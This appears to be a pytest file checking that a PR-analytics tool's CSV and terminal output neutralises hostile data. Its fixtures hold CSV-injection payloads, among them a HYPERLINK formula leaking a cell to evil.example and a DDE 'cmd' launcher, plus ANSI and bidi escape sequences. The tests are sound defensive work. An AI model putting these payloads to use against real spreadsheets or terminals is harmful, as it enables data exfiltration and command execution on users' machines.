"""What `pr-atlas sql` and the dashboards' CSV downloads write is shown, never acted on: no cell of a CSV
runs as a spreadsheet formula, and a terminal gets the data's control characters (escape sequences that
clear the screen, retitle the window or make links; bidirectional overrides) escaped."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import select
import subprocess
import sys

import duckdb
import pandas as pd
import pytest

from etl import user_sql

from .conftest import PROJECT_ROOT, cli_env, run_cli

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                  "-2+3", "\t=1+1", "\r=1+1", "fine title"]
ESCAPES = "clear\x1b[2J\x1b[Hscreen \x1b]0;new window title\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ " \
          "bidi\u202eright-to-left\u202c del\x7f csi\x9b31m"


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    path = tmp_path_factory.mktemp("sql") / "w.duckdb"
    with duckdb.connect(str(path)) as con:
        con.execute("create table pull_requests (number integer, title varchar, labels varchar[])")
        for i, title in enumerate([*HOSTILE_TITLES, ESCAPES]):
            con.execute("insert into pull_requests values (?, ?, ?)", [i, title, ["=bad", "ok"]])
    return path


def sql_bytes(database, query: str, *extra: str) -> str:
    """The command's output exactly (not through universal newlines, which would turn a CR into a row end)."""
    result = subprocess.run([sys.executable, "-m", "etl.cli", "sql", query, "--db", str(database), *extra],
                            cwd=PROJECT_ROOT, env=cli_env(), capture_output=True, timeout=120, check=True)
    return result.stdout.decode("utf-8")


def test_csv_cells_never_start_a_formula(database):
    out = sql_bytes(database, "select * from pull_requests order by number", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    titles = [row["title"] for row in rows[: len(HOSTILE_TITLES)]]
    assert titles == ["'" + t if t[0] in "=+-@\t\r" else t for t in HOSTILE_TITLES]
    assert all(not row["title"].startswith(user_sql.FORMULA_STARTS) for row in rows)
    assert json.loads(rows[0]["labels"]) == ["=bad", "ok"]  # a list is one JSON cell: it starts with [
    assert rows[0]["number"] == "0"


def test_a_column_name_cannot_be_a_formula_either(database):
    out = sql_bytes(database, "select 1 as \"=cmd()\", -5 as n", "--format", "csv")
    assert out == "'=cmd(),n\r\n1,-5\r\n"  # a negative number stays a number


def test_the_table_shows_control_characters_escaped(database):
    out = run_cli("sql", "select title from pull_requests where number = 7", "--db", str(database)).stdout
    assert not any(ch in out for ch in ("\x1b", "\x07", "\x7f", "\x9b", "\u202e")), repr(out)
    assert "\\x1b[2J" in out and "\\x07" in out
    short = run_cli("sql", "select chr(8238) || 'abc' || chr(155) || chr(127) as t, 'x' as \"a\x1b[2Jb\"",
                    "--db", str(database)).stdout
    assert "\\u202eabc\\x9b\\x7f" in short and "a\\x1b[2Jb" in short and "\x1b" not in short, repr(short)


def test_json_escapes_them_and_reads_back_the_same(database):
    out = run_cli("sql", "select title from pull_requests where number = 7", "--db", str(database),
                  "--format", "json").stdout
    assert not any(ch in out for ch in ("\x1b", "\x07", "\x7f", "\x9b", "\u202e")), repr(out)
    assert json.loads(out) == [{"title": ESCAPES}]


def test_csv_to_a_terminal_is_escaped_too(database):
    """On a terminal (a pseudo-terminal here) the CSV's control characters are escaped as well."""
    leader, follower = pty.openpty()
    process = subprocess.Popen([sys.executable, "-m", "etl.cli", "sql", "select title from pull_requests "
                                "where number = 7", "--db", str(database), "--format", "csv"],
                               cwd=PROJECT_ROOT, env=cli_env(), stdout=follower, stderr=subprocess.DEVNULL)
    os.close(follower)
    received = b""
    try:
        while True:
            ready, _, _ = select.select([leader], [], [], 60)
            if not ready:
                break
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            received += chunk
    finally:
        process.wait(timeout=60)
        os.close(leader)
    text = received.decode("utf-8")
    assert "\x1b" not in text and "\u202e" not in text and "\\x1b[2J" in text, repr(text)


def test_the_dashboards_csv_is_the_same_csv():
    """The Pull requests and SQL pages download user_sql.as_csv: the same neutralising."""
    frame = pd.DataFrame({"title": HOSTILE_TITLES, "flags": [["=x"]] * len(HOSTILE_TITLES)})
    rows = list(csv.DictReader(io.StringIO(user_sql.as_csv(frame), newline="")))
    assert [row["title"] for row in rows][5] == "'\r=1+1"
    assert all(not row["title"].startswith(user_sql.FORMULA_STARTS) for row in rows)
    assert user_sql.escape_controls(ESCAPES).isprintable()
